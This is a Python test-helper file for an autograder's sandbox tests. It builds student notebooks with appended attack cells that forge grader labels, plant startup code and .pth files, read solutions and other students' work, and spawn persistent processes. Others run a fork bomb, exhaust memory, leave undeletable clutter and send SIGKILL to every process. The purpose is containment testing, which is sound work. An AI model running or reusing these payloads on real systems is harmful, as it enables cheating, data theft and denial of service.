"""The attack corpus: notebooks whose extra cell attacks the grader, the kit or the next student.

Each attack is a code cell of its own, appended to an otherwise honest quick submission,
so a contained attack costs its author nothing and the grade stays honest. The cell ends
by raising `RuntimeError("REPORT {...}")` with what it saw (every attempt: "ok" or the
exception that stopped it), which grade.json keeps among the cell errors. The test then
checks the outside too: files, hashes, processes, the listener, the later submissions.

`{...}` names in the cells (KIT, HOME, OUT, CORPUS, MNIST, PORT) are filled in per run.
"""

import json

import nbformat

from tests.helpers import QUICK_TRAINING, make_submission

PREAMBLE = """\
import json, os, pathlib, signal, subprocess, sys, time
P = json.loads({paths!r})
report = {{}}
def attempt(label, action):
    try:
        result = action()
        report[label] = "ok" if result is None else result
    except BaseException as e:
        report[label] = type(e).__name__
def write(path, text="planted"):
    path = pathlib.Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
"""
REPORT = '\nraise RuntimeError("REPORT " + json.dumps(report))\n'

ATTACKS = {
    # A weak model, and the grader's own MNIST labels rewritten to match what it predicts.
    "forge_mnist": """
import numpy as np
def forge():
    with np.load(P["MNIST"]) as data:
        arrays = {k: data[k] for k in data.files}
    arrays["y_test"][:] = 0
    with open(P["MNIST"], "wb") as f:
        np.savez(f, **arrays)
attempt("rewrite MNIST_PATH", forge)
attempt("rewrite MNIST in the kernel's env", lambda: write(os.environ["MNIST_PATH"]))
""",
    # Code that would run in every later grading.
    "plant_code": """
import site
attempt("pyc in the kit", lambda: write(P["KIT"] + "/autograder/__pycache__/contract.cpython-311.pyc"))
attempt("module in the kit's folder", lambda: write(P["KIT"] + "/argparse.py", "raise SystemExit"))
attempt("pth in site-packages", lambda: write(site.getsitepackages()[0] + "/kit_probe.pth", "import os"))
attempt("venv kernel spec", lambda: write(P["KIT"] + "/.venv/share/jupyter/kernels/python3/kernel.json", "{}"))
attempt("ipython startup in the instructor's HOME",
        lambda: write(P["HOME"] + "/.ipython/profile_default/startup/00.py", "relu = None"))
attempt("kernel spec in the instructor's HOME",
        lambda: write(P["HOME"] + "/.local/share/jupyter/kernels/python3/kernel.json", "{}"))
attempt("keras.json in the instructor's HOME", lambda: write(P["HOME"] + "/.keras/keras.json", '{"floatx": "float16"}'))
attempt("ipython startup in this HOME", lambda: write(os.path.expanduser("~/.ipython/profile_default/startup/00.py"),
                                                       "def relu(z):\\n    return z"))
attempt("keras.json in this HOME", lambda: write(os.path.expanduser("~/.keras/keras.json"), '{"floatx": "float16"}'))
for folder in ("/tmp", "/var/tmp", "/dev/shm"):
    attempt(f"leave a file in {folder}", lambda folder=folder: write(folder + "/kit-leak", "leak"))
""",
    # Read what is not the student's: the tests, the solution, another student, the instructor.
    "read_secrets": """
def read(path):
    return "READ " + pathlib.Path(path).read_text()[:200]
attempt("hidden tests", lambda: read(P["KIT"] + "/dist/deep_learning_primer/tests/activations.py"))
attempt("solution", lambda: read(P["KIT"] + "/solutions/deep_learning_primer.ipynb"))
attempt("another submission", lambda: read(P["CORPUS"] + "/zz_victim.ipynb"))
attempt("the instructor's file", lambda: read(P["HOME"] + "/secret.txt"))
attempt("the instructor's environment", lambda: "READ " + os.environ.get("KIT_SECRET", "none"))
def labels(path):
    import numpy as np
    with np.load(path) as data:
        return "READ the test labels" if data["y_test"].any() else "no labels"
attempt("the test labels in the kernel's MNIST", lambda: labels(os.environ["MNIST_PATH"]))
attempt("the test labels in the grader's MNIST", lambda: labels(P["MNIST"]))
""",
    # Outlive the grading, signal the grader, write its files, reach the network.
    "escape": """
survivor = "import time, pathlib\\ntime.sleep(15)\\npathlib.Path(%r).write_text('{}')" % (P["OUT"] + "/gradebook.csv")
attempt("double-forked survivor", lambda: subprocess.Popen([sys.executable, "-c", survivor], start_new_session=True)
        and None)
ignorer = "import signal, time\\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\\ntime.sleep(600)"
attempt("process ignoring SIGTERM", lambda: subprocess.Popen([sys.executable, "-c", ignorer]) and None)
attempt("mkdir results.json in the out folder", lambda: os.makedirs(P["OUT"] + "/students/zz_victim/results.json"))
attempt("write the out folder", lambda: write(P["OUT"] + "/students/zz_victim/grade.json", "{}"))
attempt("connect to 127.0.0.1", lambda: __import__("socket").create_connection(("127.0.0.1", P["PORT"]), 3) and None)
def command_lines():
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    return [open(f"/proc/{p}/cmdline").read().replace(chr(0), " ")[:200] for p in pids]
attempt("see the grader's processes", command_lines)
attempt("kill the parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
""",
    # Processes and memory beyond the limits. The bomb forks from a small Python, not from the kernel:
    # forking TensorFlow's 1.3 GB 238 times took 5-9 s on an idle machine, over the lenient 20 s cell
    # limit under the suite's load.
    "exhaust": """
import numpy as np
FORK_BOMB = '''
import os, time
children = 0
try:
    while children < 5000:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as e:
    print(f"{type(e).__name__} after {children}")
else:
    print(f"no limit: {children}")
'''
bomb = lambda: subprocess.Popen([sys.executable, "-c", FORK_BOMB], stdout=subprocess.PIPE, text=True)
attempt("fork bomb", lambda: bomb().stdout.readline().strip())  # its line, not the pipe's end: children hold it
attempt("20 GB at once", lambda: np.ones(20 * 2**30 // 8).sum() and None)
""",
    # Leave what a recursive or path-following removal chokes on, in HOME and beside the kernel's sockets.
    "litter": """
import socket
def chain(root, depth=5000):  # deeper than Python's recursion limit, longer than a path may be
    os.mkdir(os.path.join(root, "chain"))
    fd = os.open(os.path.join(root, "chain"), os.O_RDONLY)
    for _ in range(depth):
        os.mkdir("d", dir_fd=fd)
        fd, parent = os.open("d", os.O_RDONLY, dir_fd=fd), fd
        os.close(parent)
    os.close(fd)
def files(root, count=20000):
    folder = pathlib.Path(root) / "many"
    folder.mkdir()
    for i in range(count):
        (folder / str(i)).write_bytes(b"x")
def odd(root):
    root = pathlib.Path(root)
    os.mkfifo(root / "fifo")
    socket.socket(socket.AF_UNIX).bind(str(root / "socket"))
    (root / "kit").symlink_to(P["KIT"])
    (root / "locked" / "inner").mkdir(parents=True)
    (root / "locked" / "inner" / "file").write_text("x")
    (root / "locked" / "inner").chmod(0)
    (root / "locked").chmod(0)
def sockets_folder():
    connection = json.loads(pathlib.Path(sys.argv[sys.argv.index("-f") + 1]).read_text())
    return str(pathlib.Path(connection["ip"]).parent)
for name, root in (("HOME", os.path.expanduser("~")), ("sockets", sockets_folder())):
    attempt(f"deep chain in {name}", lambda root=root: chain(root))
    attempt(f"many files in {name}", lambda root=root: files(root))
    attempt(f"fifo, socket, link, locked folder in {name}", lambda root=root: odd(root))
""",
    # Kill every process it may signal (outside a sandbox: the whole class run), then its own kernel:
    # the cell is left out and the notebook run again.
    "kill_all": """
try:
    os.kill(-1, signal.SIGKILL)
except ProcessLookupError:  # nothing else it may signal
    pass
os.kill(os.getpid(), signal.SIGKILL)
""",
}

# Graded after the attacks: what any of them left behind would show here.
VICTIM_CHECK = """
report["leftovers"] = [p for p in ("/tmp/kit-leak", "/var/tmp/kit-leak", "/dev/shm/kit-leak",
                                   os.path.expanduser("~/.ipython/profile_default/startup/00.py")) if os.path.exists(p)]
keras_json = pathlib.Path(os.path.expanduser("~/.keras/keras.json"))  # Keras writes its own on import
if keras_json.exists() and "float16" in keras_json.read_text():
    report["leftovers"].append(str(keras_json))
history = pathlib.Path(os.path.expanduser("~/.ipython/profile_default/history.sqlite"))
report["history from earlier students"] = history.exists() and b"attempt(" in history.read_bytes()
"""


def attack_cell(code, paths):
    return PREAMBLE.format(paths=json.dumps(paths)) + code + REPORT


def attack_notebook(path, built, paths, *codes):
    """An honest quick submission with each of `codes` as a cell of its own at the end."""
    make_submission(path, built, mnist_accuracy=QUICK_TRAINING)
    nb = nbformat.read(path, as_version=4)
    nb.cells += [nbformat.v4.new_code_cell(attack_cell(code, paths)) for code in codes]
    nbformat.write(nb, path)
    return path


def write_corpus(folder, built, paths):
    """Every attack, then two honest submissions that look for what the attacks left."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, code in [*ATTACKS.items(), ("zz_victim", VICTIM_CHECK), ("zz_victim_2", VICTIM_CHECK)]:
        attack_notebook(folder / f"{name}.ipynb", built, paths, code)
    return folder


# What each attack must not have done, wherever it ran: its report's entries that must not be "ok".
MUST_FAIL = {
    "forge_mnist": ["rewrite MNIST_PATH", "rewrite MNIST in the kernel's env"],
    "plant_code": [
        "pyc in the kit",
        "module in the kit's folder",
        "pth in site-packages",
        "venv kernel spec",
        "ipython startup in the instructor's HOME",
        "kernel spec in the instructor's HOME",
        "keras.json in the instructor's HOME",
    ],
    "escape": ["mkdir results.json in the out folder", "write the out folder", "connect to 127.0.0.1"],
}


def reports(grade_json):
    """What each attack cell reported, from a grade.json's cell errors."""
    found = {}
    for error in json.loads(grade_json.read_text())["cell_errors"]:
        if error["message"].startswith("REPORT "):
            found.update(json.loads(error["message"][len("REPORT ") :]))
    return found
